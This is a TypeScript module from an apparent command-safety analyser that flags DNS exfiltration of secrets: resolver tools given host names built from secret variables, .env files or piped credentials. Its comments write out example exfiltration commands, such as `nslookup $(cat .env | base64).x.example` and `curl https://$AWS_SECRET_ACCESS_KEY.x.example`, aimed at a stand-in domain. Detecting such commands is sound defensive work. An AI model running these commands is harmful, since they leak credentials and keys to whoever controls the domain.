// A secret spelled into a host name: `nslookup $(cat .env | base64).x.example`,
// `ping -c1 $AWS_SECRET_ACCESS_KEY.x.example`. Resolving the name sends it,
// through every resolver on the way, to whoever serves that domain — no
// request body, no upload, and firewalls that stop HTTP let DNS through. A name
// built from what reads no secret (`ping $(hostname)`, `dig $HOST`) is quiet.
import type { AnalysisContext, Finding, SimpleCommand } from '../../types';
import { finding } from '../common/finding';
import { secretRefs, secretRefsOf, SEND_ALT } from './common';
import { substitutedSecret } from './substitutions';
import { credentialIn, inputRedirects } from '../common/credentials';
import { optionValues } from '../../command/args';
import { credentialProducer } from './network';

/** Programs that resolve the names they are given. */
export const RESOLVERS = new Set([
  'nslookup',
  'dig',
  'host',
  'drill',
  'delv',
  'kdig',
  'ping',
  'ping6',
  'traceroute',
  'tracepath',
  'getent',
  'resolvectl',
]);

export function dnsSecretFinding(name: string, cmd: SimpleCommand, ctx: AnalysisContext): Finding | undefined {
  // The source, not argv: a variable the request's environment sets is already expanded there.
  const refs = secretRefsOf(cmd);
  const what =
    (refs.length ? '$' + refs[0] : cmd.dynamic.some(Boolean) ? substitutedSecret(cmd, ctx) : undefined) ??
    batchFileSecret(name, cmd, ctx);
  if (!what) return undefined;
  return finding(
    'secrets.send-to-network',
    85,
    `${name} looks up a name built from ${what}: the lookup carries it to whoever serves that domain`,
    what,
    SEND_ALT,
  );
}

/**
 * `dig @ns.x.example -f .env`, `nslookup < .env`: a resolver reading the names
 * it looks up from a file sends every line of it, one query each.
 */
function batchFileSecret(name: string, cmd: SimpleCommand, ctx: AnalysisContext): string | undefined {
  const files = name === 'dig' || name === 'kdig' ? optionValues(cmd.argv, ['-f']) : [];
  const hit = credentialIn([...files, ...inputRedirects(cmd)], cmd, ctx)?.shown;
  // `cat .env | xargs -I{} nslookup {}.x.example`: one lookup per line of what is piped in.
  const from = cmd.stdinOrigin ?? cmd.stdinFrom;
  return hit ?? (cmd.repeated && from && cmd.dynamic.some(Boolean) ? credentialProducer(from, cmd, ctx) : undefined);
}

/** `curl https://$AWS_SECRET_ACCESS_KEY.x.example`: the host name is resolved before anything is sent. */
export function urlHostSecretFinding(name: string, urls: readonly string[]): Finding | undefined {
  for (const url of urls) {
    const authority = /^[a-z][\w+.-]*:\/\/([^/?#]*)/i.exec(url)?.[1];
    // `https://$TOKEN@github.com/…` is a login the host checks; only what follows the `@` is looked up.
    // A label of the name (`$KEY.x.example`), not a path glued on (`http://169.254.170.2$RELATIVE_URI`).
    const host = authority?.slice(authority.lastIndexOf('@') + 1) ?? '';
    const refs = secretRefs(host).filter((r) => new RegExp(`\\$\\{?${r}\\}?\\.`).test(host));
    if (refs.length)
      return finding(
        'secrets.send-to-network',
        85,
        `${name} connects to a host named after $${refs[0]}: resolving it carries the value to whoever serves that domain`,
        '$' + refs[0],
        SEND_ALT,
      );
  }
  return undefined;
}
